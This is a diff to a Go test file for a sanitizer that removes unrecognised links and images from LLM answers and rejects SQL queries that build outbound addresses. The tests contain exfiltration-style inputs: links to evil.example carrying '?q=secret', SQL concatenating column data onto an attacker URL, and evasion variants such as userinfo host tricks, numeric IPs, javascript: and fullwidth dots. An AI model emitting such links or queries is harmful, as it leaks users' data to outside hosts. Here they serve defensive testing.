@@ -1,6 +1,7 @@
 package llm
 
 import (
+	"context"
 	"encoding/json"
 	"regexp"
 	"strings"
@@ -9,7 +10,7 @@ import (
 
 var dataLinks = linksIn([]Step{{Rows: Rows{Rows: []json.RawMessage{
 	json.RawMessage(`{"page":"https://good.example/a/b?c=1","site":"bare.example","mail":"eve@mail.example",
-		"list":["see http://list.example:8080/x.","![](https://img.example/cat.png)"],"deep":{"u":"WWW.Upper.Example/x"}}`),
+		"list":["see http://list.example:8080/x.","![](https://img.example/cat.png)"],"deep":{"u":"WWW.Upper.Example/x"},"wiki":"https://good.example/x_(y)"}`),
 }}}})
 
 func TestSanitize(t *testing.T) {
@@ -19,16 +20,17 @@ func TestSanitize(t *testing.T) {
 		{"a citation", "Ada [step 1]: yes [step 2].", "Ada [step 1]\\: yes [step 2]."},
 		{"SQL", "`SELECT x[1]::INT FROM t WHERE a<>b AND a <5`", "`SELECT x[1]::INT FROM t WHERE a<>b AND a <5`"},
 
-		{"a known link", "[a](https://good.example/other)", "[a](https://good.example/other)"},
-		{"a known link with a title", `[a](https://good.example/a/b "title")`, "[a](https://good.example/a/b)"},
-		{"a known link in angles", "[a](<https://good.example/x>)", "[a](https://good.example/x)"},
+		{"a known link", "[a](https://good.example/a/b?c=1)", "[a](https://good.example/a/b?c=1)"},
+		{"a known link with a title", `[a](https://good.example/a/b?c=1 "title")`, "[a](https://good.example/a/b?c=1)"},
+		{"a known link in angles", "[a](<https://good.example/x_(y)/>)", "[a](https://good.example/x_(y)/)"},
 		{"a known host that stood bare", "[a](https://bare.example)", "[a](https://bare.example)"},
-		{"a known host with a port", "[a](http://list.example:8080/y)", "[a](http://list.example:8080/y)"},
+		{"a known host with a port", "[a](http://list.example:8080/x)", "[a](http://list.example:8080/x)"},
 		{"a known host in capitals", "[a](https://GOOD.example/)", "[a](https://GOOD.example/)"},
-		{"a known address", "See https://good.example/z, <https://good.example>.", "See https://good.example/z, <https://good.example>."},
+		{"a known address", "See https://good.example/a/b?c=1, <https://good.example>.", "See https://good.example/a/b?c=1, <https://good.example>."},
 		{"a known image", "![cat](https://img.example/cat.png)", "![cat](https://img.example/cat.png)"},
 		{"parentheses in an address", "[a](https://good.example/x_(y))", "[a](https://good.example/x_(y))"},
 
+		{"a known host with more behind it", "[a](https://good.example/?q=secret), https://good.example/secret.", "a, ‹address removed›."},
 		{"an unknown link", "[click](https://evil.example/?q=secret) here", "click here"},
 		{"an unknown link with a title", `[click](https://evil.example "x) y") here`, "click here"},
 		{"an unknown link, address on the next line", "[click](\nhttps://evil.example)", "click"},
@@ -58,7 +60,7 @@ func TestSanitize(t *testing.T) {
 
 		{"a reference", "[a][r]\n\n[r]: https://evil.example/x", "[a][r]\n\n[r]\\: ‹address removed›"},
 		{"a known reference", "[a][r]\n\n[r]: https://good.example/a/b?c=1", "[a][r]\n\n[r]: https://good.example/a/b?c=1"},
-		{"a reference for an image", "![a][r]\n\n[r]: https://good.example/new?d=1", "![a][r]\n\n[r]\\: https://good.example/new?d=1"},
+		{"a reference for an image", "![a][r]\n\n[r]: https://good.example/new?d=1", "![a][r]\n\n[r]\\: ‹address removed›"},
 		{"a reference in a quote", "> [r]:\n> <//evil.example>", "> [r]\\:\n> &lt;//evil.example>"},
 		{"a reference without a scheme", "[r]: //evil.example/x\n[r]", "[r]\\: //evil.example/x\n[r]"},
 
@@ -93,6 +95,83 @@ func TestSanitizeWithoutData(t *testing.T) {
 	t.Parallel()
 	if got := linksIn(nil).sanitize("[a](https://good.example) ![b](https://good.example)"); got != "a b" {
 		t.Errorf("%q", got)
+	}
+}
+
+func TestPlain(t *testing.T) {
+	t.Parallel()
+	if got := Plain("no column `[a](https://good.example)` in <b>"); got != "no column `a` in &lt;b>" {
+		t.Errorf("%q", got)
+	}
+}
+
+func TestCheckQuery(t *testing.T) {
+	t.Parallel()
+	known := knownLinks(Task{Question: "How many visits to https://asked.example/page?"})
+	for _, sql := range []string{
+		"", "SELECT x[1]::INT, a[1:2], {'k': [1]} FROM t WHERE a <b AND a<>b", "SELECT 1 FROM t WHERE url LIKE 'https://%' OR url LIKE '%://%'",
+		"SELECT 1 FROM t WHERE url LIKE '%other.example/%'", "SELECT 1 FROM t WHERE url = 'https://asked.example/page'",
+		"SELECT 1 FROM t WHERE url LIKE 'http://asked.example%'",
+	} {
+		if err := known.checkQuery(sql); err != nil {
+			t.Errorf("%s: %v", sql, err)
+		}
+	}
+	for _, sql := range []string{
+		"SELECT 1 -- ![x](//evil.example)", "SELECT '[r]: //evil.example' || a FROM t", "SELECT '<img src=//evil.example>'",
+		"SELECT 'https://evil.example/?q=' || a FROM t", "SELECT 'www.evil.example'", "SELECT 1 /* &#104;ttps://evil.example */",
+		"SELECT 'https://asked.example@evil.example/'", "SELECT 'https://asked.example:1@evil.example/'", "SELECT 'http://134744072/x'",
+		"SELECT 'http://[::1]/'", "SELECT 'javascript:x'", "SELECT 'ftp://evil.example'", "SELECT 'https://evil。example'",
+	} {
+		if known.checkQuery(sql) == nil {
+			t.Errorf("%s is let through", sql)
+		}
+	}
+}
+
+// held answers whether it holds addresses, as a lake would.
+type held func(sql string) string
+
+func (h held) Query(_ context.Context, sql string) (Rows, error) {
+	return Rows{Rows: []json.RawMessage{json.RawMessage(h(sql))}}, nil
+}
+
+// An address that a query has put together is in a row, but not in the data.
+func TestStoredLinks(t *testing.T) {
+	t.Parallel()
+	var asked []string
+	task := AnswerTask{
+		Task: Task{
+			Datasets: []Dataset{
+				{Name: "pages", Columns: []Column{{Name: "n", Type: "BIGINT"}, {Name: `a "b"`, Type: "VARCHAR"}, {Name: "c", Type: "VARCHAR[]"}}},
+				{Name: "numbers", Columns: []Column{{Name: "n", Type: "BIGINT"}}},
+				{Name: "others", Columns: []Column{{Name: "c", Type: "VARCHAR"}}},
+			},
+			Data: held(func(sql string) string {
+				asked = append(asked, sql)
+				return `{"a0":false,"a1":true,"a2":true,"a3":null}`
+			}),
+		},
+		Steps: []Step{{Query: "SELECT * FROM Pages, numbers", Rows: Rows{Rows: []json.RawMessage{
+			json.RawMessage(`{"u":"http://a.example/made","v":"http://a.example/there","w":"B.example","x":"http://c.example/"}`)}}}},
+	}
+	known := linksIn(task.Steps)
+	text := known.sanitize("![x](http://a.example/made) [y](http://a.example/there/) http://b.example http://c.example/ http://d.example/")
+	if want := "![x](http://a.example/made) [y](http://a.example/there/) http://b.example http://c.example/ ‹address removed›"; text != want {
+		t.Errorf("%s, want %s", text, want)
+	}
+	if got, want := known.stored(t.Context(), task).sanitize(text), "x [y](http://a.example/there/) http://b.example ‹address removed› ‹address removed›"; got != want {
+		t.Errorf("%s, want %s", got, want)
+	}
+	want := `SELECT bool_or(contains(texts, 'http://a.example/made')) AS a0, bool_or(contains(texts, 'http://a.example/there')) AS a1, ` +
+		`bool_or(contains(lower(texts), 'b.example')) AS a2, bool_or(contains(lower(texts), 'c.example')) AS a3 ` +
+		`FROM (SELECT concat_ws(' ', CAST("a ""b""" AS VARCHAR), CAST("c" AS VARCHAR)) AS texts FROM "pages")`
+	if len(asked) != 1 || asked[0] != want {
+		t.Errorf("asked %q, want %s", asked, want)
+	}
+	task.Data = nil
+	if got := known.stored(t.Context(), task).sanitize(text); strings.Contains(got, "http") {
+		t.Errorf("without data: %s", got)
 	}
 }
 
